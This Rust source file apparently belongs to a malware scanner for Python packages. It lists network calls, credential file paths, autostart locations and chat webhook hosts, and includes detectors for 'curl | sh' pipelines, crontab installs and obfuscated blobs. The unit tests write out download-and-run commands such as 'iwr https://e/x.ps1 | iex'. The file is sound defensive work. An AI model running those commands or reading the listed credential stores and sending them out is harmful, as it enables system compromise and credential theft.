//! The supply-chain family: what malicious and install-time code in a
//! package does, as lists the `supply-chain` rules read.
//!
//! * [`NETWORK_FETCH`], [`NETWORK_SEND`], [`NETWORK_CONNECT`]: calls that
//!   reach the network (a fetch returns data; a send carries data out; a
//!   connect opens a channel either way);
//! * [`DECODERS`]: calls that turn an encoded literal back into text or
//!   code (base64, hex, compression, marshal, `codecs`);
//! * [`CODE_RUNNERS`] and [`NAME_IMPORTERS`]: what runs code or imports a
//!   module by a computed name;
//! * [`SECRET_PATHS`], [`PERSISTENCE_PATHS`], [`RUN_KEYS`]: the places
//!   whose reading (credentials) or writing (autostart) is the behaviour;
//! * [`CHAT_WEBHOOK_HOSTS`]: hosts that take stolen data without an
//!   account of the attacker's own;
//! * [`SETUP_COMMAND_BASES`]: the setuptools and distutils command classes
//!   whose subclasses run at install time;
//! * [`pipes_download_to_interpreter`]: whether a shell command fetches a
//!   script and runs it (`curl … | sh`).
//!
//! Which APIs start a program is the [`crate::commands`] family.

/// Calls that fetch a resource and return (or store) its content.
pub const NETWORK_FETCH: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "urllib2.urlopen",
    "six.moves.urllib.request.urlopen",
    "six.moves.urllib.request.urlretrieve",
    "requests.get",
    "requests.request",
    "requests.api.get",
    "requests.Session.get",
    "httpx.get",
    "httpx.request",
    "httpx.stream",
    "httpx.Client.get",
    "urllib3.request",
    "urllib3.PoolManager.request",
    "http.client.HTTPConnection.getresponse",
    "http.client.HTTPSConnection.getresponse",
];

/// Calls that carry data out to a server.
pub const NETWORK_SEND: &[&str] = &[
    "requests.post",
    "requests.put",
    "requests.patch",
    "requests.request",
    "requests.api.post",
    "requests.Session.post",
    "requests.Session.put",
    "httpx.post",
    "httpx.put",
    "httpx.patch",
    "httpx.request",
    "httpx.Client.post",
    "httpx.AsyncClient.post",
    "aiohttp.ClientSession.post",
    "urllib.request.urlopen",
    "urllib.request.Request",
    "urllib2.urlopen",
    "urllib2.Request",
    "urllib3.request",
    "urllib3.PoolManager.request",
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "smtplib.SMTP",
    "smtplib.SMTP_SSL",
    "ftplib.FTP",
    "socket.socket",
    "socket.create_connection",
    // A DNS lookup of a built name carries the data in the name.
    "socket.gethostbyname",
    "socket.gethostbyname_ex",
    "socket.getaddrinfo",
    "dns.resolver.resolve",
    "dns.resolver.query",
];

/// Calls that open a network connection (for import-time behaviour).
pub const NETWORK_CONNECT: &[&str] = &[
    "socket.socket",
    "socket.create_connection",
    "socket.gethostbyname",
    "socket.getaddrinfo",
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "urllib.urlopen",
    "urllib2.urlopen",
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.request",
    "httpx.get",
    "httpx.post",
    "httpx.request",
    "urllib3.request",
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "smtplib.SMTP",
    "ftplib.FTP",
];

/// Modules whose import is needed for any network call above: a file that
/// imports none of them has no network behaviour to judge.
pub const NETWORK_MODULES: &[&str] = &[
    "urllib", "urllib2", "urllib3", "requests", "httpx", "aiohttp", "http", "socket", "smtplib",
    "ftplib", "dns", "six",
];

/// Calls that return their (first) path argument in another form
/// (`os.path.expanduser("~/.ssh")`, `Path("~/.bashrc")`).
pub const PATH_WRAPPERS: &[&str] = &[
    "os.path.expanduser",
    "os.path.expandvars",
    "os.path.abspath",
    "os.path.realpath",
    "os.path.normpath",
    "os.fspath",
    "pathlib.Path",
    "pathlib.PurePath",
    "pathlib.PosixPath",
    "pathlib.WindowsPath",
    "builtins.str",
];

/// Calls that join their arguments into one path.
pub const PATH_JOINERS: &[&str] = &["os.path.join", "posixpath.join", "ntpath.join"];

/// Calls that return the user's home folder.
pub const HOME_FOLDERS: &[&str] = &["pathlib.Path.home", "os.path.expanduser"];

/// Environment variables that hold a user's folder, and the path they
/// stand for.
pub const FOLDER_VARIABLES: &[(&str, &str)] = &[
    ("HOME", "~"),
    ("USERPROFILE", "~"),
    ("APPDATA", "~/AppData/Roaming"),
    ("LOCALAPPDATA", "~/AppData/Local"),
];

/// Calls that read the environment by name.
pub const ENV_GETTERS: &[&str] = &["os.getenv", "os.environ.get"];

/// Calls that open a file, with the path first and the mode second.
pub const FILE_OPENERS: &[&str] = &["builtins.open", "io.open", "codecs.open"];

/// Path methods that write the file they are called on.
pub const PATH_WRITE_METHODS: &[&str] = &["write_text", "write_bytes"];

/// Calls that write to their second argument (the destination).
pub const FILE_COPIERS: &[&str] = &[
    "shutil.copy",
    "shutil.copy2",
    "shutil.copyfile",
    "shutil.move",
    "os.rename",
    "os.replace",
];

/// Calls that read a file or folder named by their first argument, other
/// than [`FILE_OPENERS`] and [`PATH_WRAPPERS`].
pub const PATH_READERS: &[&str] = &[
    "os.listdir",
    "os.scandir",
    "os.walk",
    "glob.glob",
    "glob.iglob",
    "shutil.copy",
    "shutil.copy2",
    "shutil.copyfile",
    "shutil.copytree",
    "shutil.make_archive",
    "sqlite3.connect",
    "netrc.netrc",
    "configparser.ConfigParser.read",
];

/// Path methods that read the file they are called on.
pub const PATH_READ_METHODS: &[&str] = &["read_text", "read_bytes"];

/// Calls that make a file executable.
pub const CHMODS: &[&str] = &["os.chmod", "pathlib.Path.chmod"];

/// Calls that return the whole environment, or iterate it.
pub const ENV_DUMPS: &[&str] = &[
    "os.environ.copy",
    "os.environ.items",
    "os.environ.keys",
    "os.environ.values",
];

/// Calls that, given `os.environ`, copy or render all of it.
pub const ENV_CONSUMERS: &[&str] = &[
    "builtins.dict",
    "builtins.str",
    "builtins.repr",
    "builtins.list",
    "json.dumps",
    "json.dump",
    "pickle.dumps",
];

/// Calls that decode an encoded value, with the name of the encoding.
pub const DECODERS: &[(&str, &str)] = &[
    ("base64.b64decode", "base64"),
    ("base64.standard_b64decode", "base64"),
    ("base64.urlsafe_b64decode", "base64"),
    ("base64.decodebytes", "base64"),
    ("base64.decodestring", "base64"),
    ("base64.b32decode", "base32"),
    ("base64.b32hexdecode", "base32"),
    ("base64.b16decode", "base16"),
    ("base64.b85decode", "base85"),
    ("base64.a85decode", "ascii85"),
    ("binascii.a2b_base64", "base64"),
    ("binascii.unhexlify", "hex"),
    ("binascii.a2b_hex", "hex"),
    ("builtins.bytes.fromhex", "hex"),
    ("builtins.bytearray.fromhex", "hex"),
    ("zlib.decompress", "zlib"),
    ("gzip.decompress", "gzip"),
    ("lzma.decompress", "lzma"),
    ("bz2.decompress", "bz2"),
    ("marshal.loads", "marshal"),
    ("codecs.decode", "codecs"),
];

/// The encoding `qualified` decodes, if it is a decoder.
pub fn decoder(qualified: &str) -> Option<&'static str> {
    DECODERS
        .iter()
        .find(|(name, _)| *name == qualified)
        .map(|(_, encoding)| *encoding)
}

/// Builtins that run code given as text or a code object.
pub const CODE_RUNNERS: &[&str] = &["builtins.exec", "builtins.eval", "builtins.compile"];

/// Calls that import a module named by their first argument.
pub const NAME_IMPORTERS: &[&str] = &[
    "builtins.__import__",
    "importlib.import_module",
    "importlib.__import__",
];

/// Pieces of a path (lower case, `/` separators) whose file holds
/// credentials, with what it is.
pub const SECRET_PATHS: &[(&str, &str)] = &[
    (".ssh/id_", "an SSH key"),
    ("id_rsa", "an SSH key"),
    ("id_ed25519", "an SSH key"),
    ("id_ecdsa", "an SSH key"),
    (".aws/credentials", "AWS credentials"),
    (".netrc", "netrc passwords"),
    (".pypirc", "PyPI credentials"),
    (".git-credentials", "git credentials"),
    (".docker/config.json", "Docker registry credentials"),
    (".kube/config", "Kubernetes credentials"),
    (".config/gcloud", "Google Cloud credentials"),
    ("/etc/passwd", "the user list"),
    ("/etc/shadow", "password hashes"),
    ("google/chrome/user data", "a browser profile"),
    ("google-chrome/default", "a browser profile"),
    (".mozilla/firefox", "a browser profile"),
    ("bravesoftware", "a browser profile"),
    ("login data", "saved browser passwords"),
    ("local state", "the browser key store"),
    ("discord/local storage", "Discord tokens"),
    ("exodus/exodus.wallet", "a crypto wallet"),
    ("electrum/wallets", "a crypto wallet"),
    (".bitcoin/wallet", "a crypto wallet"),
    ("wallet.dat", "a crypto wallet"),
    ("metamask", "a crypto wallet"),
    (".electrum", "a crypto wallet"),
];

/// What secret a path holds, if it names a credential store. The `.ssh`
/// folder itself (or an unknown file in it) holds SSH keys; its
/// `known_hosts`, `config` and public keys are no secrets.
pub fn secret_path(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase().replace('\\', "/");
    if let Some(at) = lower.find(".ssh") {
        let rest = lower[at + 4..].trim_end_matches('/');
        if rest.is_empty() || rest == "/?" || rest == "/*" {
            return Some("SSH keys");
        }
    }
    SECRET_PATHS
        .iter()
        .find(|(piece, _)| lower.contains(piece))
        .map(|(_, what)| *what)
}

/// Pieces of a path (lower case, `/` separators) whose file makes code
/// run again later: at each shell start, by cron, by systemd, at login.
pub const PERSISTENCE_PATHS: &[(&str, &str)] = &[
    (".bashrc", "a shell start-up file"),
    (".bash_profile", "a shell start-up file"),
    (".bash_login", "a shell start-up file"),
    (".zshrc", "a shell start-up file"),
    (".zprofile", "a shell start-up file"),
    (".profile", "a shell start-up file"),
    ("/etc/profile", "a shell start-up file"),
    ("/etc/cron", "a cron table"),
    ("/var/spool/cron", "a cron table"),
    (".config/systemd/user", "a systemd user unit"),
    ("/etc/systemd/system", "a systemd unit"),
    (".config/autostart", "a desktop autostart entry"),
    ("library/launchagents", "a macOS launch agent"),
    ("library/launchdaemons", "a macOS launch daemon"),
    ("start menu/programs/startup", "the Windows startup folder"),
];

/// Where a path makes code run again, if it does.
pub fn persistence_path(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase().replace('\\', "/");
    PERSISTENCE_PATHS
        .iter()
        .find(|(piece, _)| {
            // `.profile` must end the name (not `.profile.d/x`, `.profiler`).
            match lower.find(piece) {
                Some(at) => {
                    let after = &lower[at + piece.len()..];
                    !piece.starts_with('.') || piece.contains('/') || after.is_empty()
                }
                None => false,
            }
        })
        .map(|(_, what)| *what)
}

/// Windows registry keys whose values run at login (lower case).
pub const RUN_KEYS: &[&str] = &[
    "\\currentversion\\run",
    "\\currentversion\\runonce",
    "\\currentversion\\policies\\explorer\\run",
    "\\winlogon",
];

/// Whether a registry key path is an autostart key.
pub fn is_run_key(key: &str) -> bool {
    let lower = key.to_ascii_lowercase().replace('/', "\\");
    RUN_KEYS.iter().any(|k| {
        lower
            .find(k)
            .is_some_and(|at| lower[at + k.len()..].trim_end_matches('\\').is_empty())
    })
}

/// `winreg` calls that open or create a key (the key path is the second
/// argument, `sub_key`).
pub const REGISTRY_OPENERS: &[&str] = &[
    "winreg.CreateKey",
    "winreg.CreateKeyEx",
    "winreg.OpenKey",
    "winreg.OpenKeyEx",
    "_winreg.CreateKey",
    "_winreg.CreateKeyEx",
    "_winreg.OpenKey",
    "_winreg.OpenKeyEx",
];

/// `subprocess` flags that start a process with no console window or
/// detached from this one.
pub const HIDDEN_PROCESS_FLAGS: &[&str] =
    &["subprocess.CREATE_NO_WINDOW", "subprocess.DETACHED_PROCESS"];

/// Hosts of chat services whose webhooks take data with a URL alone.
pub const CHAT_WEBHOOK_HOSTS: &[&str] = &[
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "hooks.slack.com",
    "api.telegram.org/bot",
];

/// Whether a URL is a chat service's webhook.
pub fn is_chat_webhook(url: &str) -> bool {
    let lower = url.to_ascii_lowercase();
    CHAT_WEBHOOK_HOSTS.iter().any(|host| lower.contains(host))
}

/// The setuptools and distutils command classes (and their module
/// prefixes): a `cmdclass` subclass of one runs when the package is built
/// or installed.
pub const SETUP_COMMAND_BASES: &[&str] = &[
    "setuptools.Command",
    "distutils.cmd.Command",
    "distutils.core.Command",
    "wheel.bdist_wheel.bdist_wheel",
];

/// Module prefixes of setuptools and distutils commands.
pub const SETUP_COMMAND_MODULES: &[&str] = &["setuptools.command.", "distutils.command."];

/// Whether a base class is a setuptools or distutils command.
pub fn is_setup_command(qualified: &str) -> bool {
    SETUP_COMMAND_BASES.contains(&qualified)
        || SETUP_COMMAND_MODULES
            .iter()
            .any(|prefix| qualified.starts_with(prefix))
}

/// The setuptools commands pip runs when it builds or installs an sdist:
/// a `setup.py` branch taken only for another command-line argument
/// (`if sys.argv[-1] == "publish":`) does not run at install time.
pub const PIP_RUN_COMMANDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "dist_info",
    "bdist_wheel",
    "editable_wheel",
    "build",
    "build_ext",
    "build_py",
    "build_clib",
    "build_scripts",
    "sdist",
    "bdist_egg",
];

/// Version-control commands that only read the working copy (a package
/// asking git for its version): `git describe`, `git rev-parse`.
pub const VERSION_QUERIES: &[&[&str]] = &[
    &["git", "describe"],
    &["git", "rev-parse"],
    &["git", "log"],
    &["git", "status"],
    &["git", "ls-files"],
    &["git", "show"],
    &["git", "tag"],
    &["hg", "id"],
    &["hg", "log"],
];

/// Whether a command (as words) only asks version control about the
/// working copy.
pub fn is_version_query(words: &[&str]) -> bool {
    let words: Vec<&str> = words
        .iter()
        .map(|w| crate::commands::basename(w))
        .filter(|w| !w.starts_with('-'))
        .collect();
    VERSION_QUERIES
        .iter()
        .any(|query| words.len() >= query.len() && words[..query.len()] == **query)
}

/// Whether a shell command installs a cron table: something piped into
/// `crontab`, or `crontab FILE` / `crontab -` (not `-l`, `-r`, `-e`).
pub fn installs_crontab(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    for (i, segment) in lower.split(['|', ';', '&', '(', ')']).enumerate() {
        let words: Vec<&str> = segment.split_whitespace().collect();
        let Some(at) = words
            .iter()
            .position(|w| crate::commands::basename(w) == "crontab")
        else {
            continue;
        };
        let mut rest = words[at + 1..].iter();
        let mut operand = false;
        let mut other_action = false;
        while let Some(word) = rest.next() {
            match *word {
                "-u" => {
                    rest.next();
                }
                "-l" | "-r" | "-e" | "-i" => other_action = true,
                "-" => operand = true,
                w if !w.starts_with('-') => operand = true,
                _ => {}
            }
        }
        let piped_into = i > 0 && lower.contains('|') && words.len() == at + 1;
        if !other_action && (operand || piped_into) {
            return true;
        }
    }
    false
}

/// Programs that download a URL.
pub const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "iwr", "invoke-webrequest"];

/// Programs that run a script read from their input.
pub const SCRIPT_RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "python",
    "python3",
    "python2",
    "perl",
    "ruby",
    "node",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
];

/// Whether a shell command downloads something and pipes it (or runs it
/// through command substitution) into an interpreter: `curl -s URL | sh`,
/// `bash -c "$(wget -qO- URL)"`, `iwr URL | iex`. Returns the piece of the
/// command that shows it.
pub fn pipes_download_to_interpreter(command: &str) -> Option<&str> {
    let lower = command.to_ascii_lowercase();
    let words = |text: &str| -> Vec<String> {
        text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '"' | '\''))
            .filter(|w| !w.is_empty())
            .map(|w| crate::commands::basename(w).to_string())
            .collect()
    };
    let is_download = |word: &String| DOWNLOADERS.contains(&word.as_str());
    let is_runner = |word: &str| {
        let word = word.strip_suffix(".exe").unwrap_or(word);
        SCRIPT_RUNNERS.contains(&word)
            || word
                .strip_prefix("python")
                .is_some_and(|v| !v.is_empty() && v.chars().all(|c| c.is_ascii_digit() || c == '.'))
    };
    let mut offset = 0;
    let segments: Vec<(usize, &str)> = lower
        .split('|')
        .map(|s| {
            let at = offset;
            offset += s.len() + 1;
            (at, s)
        })
        .collect();
    for pair in segments.windows(2) {
        let (left_at, left) = pair[0];
        let (_, right) = pair[1];
        if right.is_empty() {
            continue; // `||`
        }
        let right_words = words(right);
        let runner = right_words
            .iter()
            .find(|w| !matches!(w.as_str(), "sudo" | "env" | "-" | "exec"))
            .is_some_and(|w| is_runner(w));
        if runner && words(left).iter().any(is_download) {
            let start = left_at;
            let end = (left_at + left.len() + 1 + right.len()).min(command.len());
            return command.get(start..end).map(str::trim);
        }
    }
    // `sh -c "$(curl -fsSL URL)"`: a download inside command substitution
    // given to an interpreter.
    if let Some(at) = lower.find("$(")
        && words(&lower[..at]).iter().any(|w| is_runner(w))
        && words(&lower[at..]).iter().any(is_download)
    {
        return Some(command.trim());
    }
    None
}

/// The `pip install` of a URL: `pip install https://…/x.tar.gz`.
pub fn pip_installs_url(words: &[&str]) -> bool {
    let pip = words.iter().position(|w| {
        let name = crate::commands::basename(w);
        name == "pip" || name == "pip3"
    });
    let Some(pip) = pip.or_else(|| {
        words
            .windows(2)
            .position(|w| w[0] == "-m" && w[1] == "pip")
            .map(|at| at + 1)
    }) else {
        return false;
    };
    let rest = &words[pip + 1..];
    rest.first() == Some(&"install")
        && rest
            .iter()
            .any(|w| w.starts_with("http://") || w.starts_with("https://"))
}

/// Whether a literal looks like encoded data: only base64 characters
/// (whitespace aside) with at least 5 bits of entropy per character, or
/// only hex digits with at least 3.5. Returns the encoding it looks like
/// and the entropy. PEM blocks are not reported.
pub fn encoded_blob(text: &str) -> Option<(&'static str, f64)> {
    // One pass that gives up at the first byte neither alphabet has: most
    // long literals are prose (docstrings), and fail at once.
    let (mut hex, mut base64, mut length) = (true, true, 0usize);
    for b in text.bytes().filter(|b| !b.is_ascii_whitespace()) {
        length += 1;
        hex &= b.is_ascii_hexdigit();
        base64 &= b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
        if !hex && !base64 {
            return None;
        }
    }
    // PEM keys and certificates (`-----BEGIN CERTIFICATE-----`) are test
    // data everywhere, and say what they are.
    if length < 512 || text.contains("-----BEGIN") {
        return None;
    }
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let entropy = entropy(&compact);
    if hex && entropy >= 3.5 {
        Some(("hex", entropy))
    } else if base64 && !hex && entropy >= 5.0 {
        Some(("base64-like", entropy))
    } else {
        None
    }
}

/// Shannon entropy of a string in bits per character.
pub fn entropy(text: &str) -> f64 {
    let mut counts = [0u32; 256];
    let mut total = 0u32;
    for b in text.bytes() {
        counts[usize::from(b)] += 1;
        total += 1;
    }
    if total == 0 {
        return 0.0;
    }
    let total = f64::from(total);
    counts
        .iter()
        .filter(|c| **c > 0)
        .map(|c| {
            let p = f64::from(*c) / total;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_piped_to_a_shell() {
        assert!(pipes_download_to_interpreter("curl -fsSL https://x.sh | sh").is_some());
        assert!(pipes_download_to_interpreter("wget -qO- http://e/x | sudo bash").is_some());
        assert!(pipes_download_to_interpreter("bash -c \"$(curl -fsSL https://e/i)\"").is_some());
        assert!(pipes_download_to_interpreter("iwr https://e/x.ps1 | iex").is_some());
        assert!(pipes_download_to_interpreter("curl -s https://e/x | python3").is_some());
        assert!(pipes_download_to_interpreter("curl -s https://e/x | tar xz").is_none());
        assert!(pipes_download_to_interpreter("cat a | sh").is_none());
        assert!(pipes_download_to_interpreter("curl x || bash y").is_none());
        assert!(pipes_download_to_interpreter("git describe --tags").is_none());
    }

    #[test]
    fn paths_of_secrets_and_autostart() {
        assert_eq!(secret_path("~/.aws/credentials"), Some("AWS credentials"));
        assert_eq!(
            secret_path("C:\\Users\\x\\.ssh\\id_rsa"),
            Some("an SSH key")
        );
        assert_eq!(secret_path("README.md"), None);
        assert_eq!(persistence_path("~/.bashrc"), Some("a shell start-up file"));
        assert_eq!(
            persistence_path("~/.profile"),
            Some("a shell start-up file")
        );
        assert_eq!(persistence_path("~/.profiler/x"), None);
        assert!(is_run_key(
            "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        ));
        assert!(!is_run_key(
            "Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall"
        ));
    }

    #[test]
    fn cron_and_version_queries() {
        assert!(installs_crontab("(crontab -l; echo x) | crontab -"));
        assert!(installs_crontab("crontab /tmp/jobs"));
        assert!(!installs_crontab("crontab -u salt -r"));
        assert!(!installs_crontab("crontab -l"));
        assert!(is_version_query(&["git", "rev-parse", "--short", "HEAD"]));
        assert!(is_version_query(&["/usr/bin/git", "describe", "--tags"]));
        assert!(!is_version_query(&["git", "clone", "https://e/x"]));
        assert_eq!(secret_path("~/.ssh/known_hosts"), None);
        assert_eq!(secret_path("~/.ssh"), Some("SSH keys"));
        assert_eq!(secret_path("/home/u/.ssh/?"), Some("SSH keys"));
        assert_eq!(secret_path("~/.ssh/id_ed25519"), Some("an SSH key"));
    }

    #[test]
    fn pip_install_of_a_url() {
        assert!(pip_installs_url(&["pip", "install", "https://e/x.tar.gz"]));
        assert!(pip_installs_url(&[
            "python",
            "-m",
            "pip",
            "install",
            "http://e/x.whl"
        ]));
        assert!(!pip_installs_url(&["pip", "install", "requests"]));
    }

    #[test]
    fn setup_commands_and_webhooks() {
        assert!(is_setup_command("setuptools.command.install.install"));
        assert!(is_setup_command("distutils.cmd.Command"));
        assert!(!is_setup_command("setuptools.setup"));
        assert!(is_chat_webhook("https://discord.com/api/webhooks/1/abc"));
        assert!(entropy("aaaa") < 0.1 && entropy("abcd") > 1.9);
    }
}

/// Extensions of package files whose content runs once the package is
/// installed: modules, start-up files, compiled extensions and libraries,
/// programs and scripts.
pub const RUNNING_EXTENSIONS: &[&str] = &[
    ".py", ".pyw", ".pth", ".so", ".pyd", ".dll", ".dylib", ".exe", ".sh", ".bat", ".ps1",
];

/// Whether a package member (its path inside the package) holds code that
/// runs once the package is installed: a [`RUNNING_EXTENSIONS`] file, or
/// anything a wheel installs as a script (`NAME.data/scripts/`).
pub fn runs_once_installed(member: &str) -> bool {
    let lower = member.to_ascii_lowercase();
    RUNNING_EXTENSIONS.iter().any(|ext| lower.ends_with(ext)) || lower.contains(".data/scripts/")
}

/// Commands a package's console script would take over once its
/// environment is on `PATH`, with the distributions that own the name
/// (normalised as PEP 503 says): a script named so by another package runs
/// in their place. Interpreters, package managers, shells, core utilities
/// and the tools that handle credentials.
pub const SHADOWED_COMMANDS: &[(&str, &[&str])] = &[
    ("python", &[]),
    ("pythonw", &[]),
    ("py", &[]),
    ("pip", &["pip"]),
    ("sudo", &[]),
    ("su", &[]),
    ("doas", &[]),
    ("sh", &[]),
    ("bash", &[]),
    ("zsh", &[]),
    ("ls", &[]),
    ("cp", &[]),
    ("mv", &[]),
    ("rm", &[]),
    ("cat", &[]),
    ("cd", &[]),
    ("env", &[]),
    ("which", &[]),
    ("chmod", &[]),
    ("chown", &[]),
    ("kill", &[]),
    ("ps", &[]),
    ("grep", &[]),
    ("find", &[]),
    ("tar", &[]),
    ("make", &[]),
    ("git", &[]),
    ("ssh", &[]),
    ("scp", &[]),
    ("curl", &[]),
    ("wget", &[]),
    ("gpg", &[]),
    ("openssl", &[]),
    ("node", &[]),
    ("npm", &[]),
    ("docker", &[]),
    ("kubectl", &[]),
    ("aws", &["awscli"]),
    ("gcloud", &[]),
    ("az", &["azure-cli"]),
];

/// The command a console script named `script` takes over, unless the
/// package `owner` (normalised name) is the one that owns it. Version
/// suffixes count as the command (`pip3.12`, `python3`).
pub fn shadowed_command(script: &str, owner: &str) -> Option<&'static str> {
    let lower = script.trim().to_ascii_lowercase();
    let base = lower.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let base = base.strip_suffix(".exe").unwrap_or(base);
    let (command, owners) = SHADOWED_COMMANDS
        .iter()
        .find(|(command, _)| *command == base || *command == lower)?;
    (!owners.contains(&owner)).then_some(*command)
}

#[cfg(test)]
mod shadowing {
    use super::shadowed_command;

    #[test]
    fn scripts_that_take_over_commands() {
        assert_eq!(shadowed_command("ls", "evil-pkg"), Some("ls"));
        assert_eq!(shadowed_command("python3", "evil-pkg"), Some("python"));
        assert_eq!(shadowed_command("pip3.12", "evil-pkg"), Some("pip"));
        assert_eq!(shadowed_command("pip3.12", "pip"), None);
        assert_eq!(shadowed_command("aws", "awscli"), None);
        assert_eq!(shadowed_command("lib-tool", "lib"), None);
        assert_eq!(shadowed_command("pytest", "pytest"), None);
    }
}

/// Compiled programs that legitimate pure-Python packages ship as data:
/// the Windows launchers installers copy to make a command of a script
/// (setuptools' `cli-64.exe`, distlib's `t64.exe`, vendored by pip). Each
/// is known by the folder that holds it and its file name.
pub const SCRIPT_LAUNCHERS: &[(&str, &[&str])] = &[
    (
        "setuptools",
        &[
            "cli.exe",
            "cli-32.exe",
            "cli-64.exe",
            "cli-arm64.exe",
            "gui.exe",
            "gui-32.exe",
            "gui-64.exe",
            "gui-arm64.exe",
        ],
    ),
    (
        "distlib",
        &[
            "t32.exe",
            "t64.exe",
            "t64-arm.exe",
            "w32.exe",
            "w64.exe",
            "w64-arm.exe",
        ],
    ),
];

/// Whether a package member (`pip/_vendor/distlib/t64.exe`) is one of the
/// [`SCRIPT_LAUNCHERS`].
pub fn is_script_launcher(member: &str) -> bool {
    let mut parts = member.rsplit('/');
    let (Some(file), Some(folder)) = (parts.next(), parts.next()) else {
        return false;
    };
    SCRIPT_LAUNCHERS
        .iter()
        .any(|(f, names)| *f == folder && names.contains(&file))
}

#[cfg(test)]
mod launchers {
    use super::is_script_launcher;

    #[test]
    fn launchers_are_known_by_folder_and_name() {
        assert!(is_script_launcher("setuptools/cli-64.exe"));
        assert!(is_script_launcher("pip/_vendor/distlib/t64.exe"));
        assert!(!is_script_launcher("evil/t64.exe"));
        assert!(!is_script_launcher("setuptools/payload.exe"));
        assert!(!is_script_launcher("t64.exe"));
    }
}

/// When a package's file runs without anything importing it, by its path
/// inside the package (an sdist's without its `NAME-VERSION/` folder):
/// an sdist's `setup.py` when pip builds it, a `.pth` file installed at the
/// top of `site-packages` at every start of Python.
pub fn runs_without_import(path: &str, sdist: bool) -> Option<&'static str> {
    if sdist {
        return (path == "setup.py").then_some("when pip builds the sdist");
    }
    // A wheel's files go to site-packages, and so does its
    // `NAME.data/purelib|platlib/` folder's content.
    let installed = path
        .split_once(".data/purelib/")
        .or_else(|| path.split_once(".data/platlib/"))
        .map_or(path, |(_, rest)| rest);
    (!installed.contains('/') && installed.to_ascii_lowercase().ends_with(".pth"))
        .then_some("at every start of Python")
}

#[cfg(test)]
mod runs_without_import_tests {
    use super::runs_without_import;

    #[test]
    fn setup_scripts_and_top_level_pth_files() {
        assert!(runs_without_import("setup.py", true).is_some());
        assert!(runs_without_import("docs/setup.py", true).is_none());
        assert!(runs_without_import("setup.py", false).is_none());
        assert!(runs_without_import("evil.pth", false).is_some());
        assert!(runs_without_import("demo-1.0.data/purelib/evil.pth", false).is_some());
        assert!(runs_without_import("demo/evil.pth", false).is_none());
    }
}

/// The functions of a build backend that pip calls to build a package
/// (PEP 517, and PEP 660's editable builds): in an sdist's in-tree backend
/// they run at install time.
pub const BUILD_BACKEND_HOOKS: &[&str] = &[
    "build_wheel",
    "build_sdist",
    "build_editable",
    "get_requires_for_build_wheel",
    "get_requires_for_build_sdist",
    "get_requires_for_build_editable",
    "prepare_metadata_for_build_wheel",
    "prepare_metadata_for_build_editable",
];
